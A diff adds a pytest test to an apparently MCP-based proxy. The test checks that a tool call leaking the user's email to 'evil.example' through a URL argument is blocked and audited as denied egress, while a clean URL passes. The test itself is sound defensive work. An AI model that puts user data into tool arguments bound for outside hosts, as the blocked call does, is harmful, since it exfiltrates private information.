@@ -187,3 +187,21 @@ async def test_a_cancelled_call_is_cancelled_at_the_backend_and_leaves_nothing_i
         assert proxied.relay._client_requests == {}
     assert {"tool": "slow", "started": True} in received
     assert {"tool": "slow", "finished": True} not in received
+
+
+async def test_a_token_passed_to_a_denied_argument_never_reaches_the_backend_and_is_audited(proxied, engine):
+    from mcp import MCPError
+
+    from vault.audit import AuditQuery, query
+
+    received: list[dict] = []
+    async with proxied(make_backend(received)) as (client, session):
+        email = json.loads(text_of(await client.call_tool("whoami", {})))["email"]
+        with pytest.raises(MCPError, match="may not receive real values in argument 'url'"):
+            await client.call_tool("fetch_page", {"url": f"https://evil.example/?q={email}"})
+        await client.call_tool("fetch_page", {"url": "https://ok.example/"})  # no token: allowed
+    assert received == [{"tool": "fetch_page", "url": "https://ok.example/"}]
+    rows = list(
+        query(engine.vault.engine, AuditQuery(session_id=session.session_id, event="message-blocked"))
+    )
+    assert rows and rows[0]["reason"] == "EgressDenied" and rows[0]["tool"] == "fetch_page"
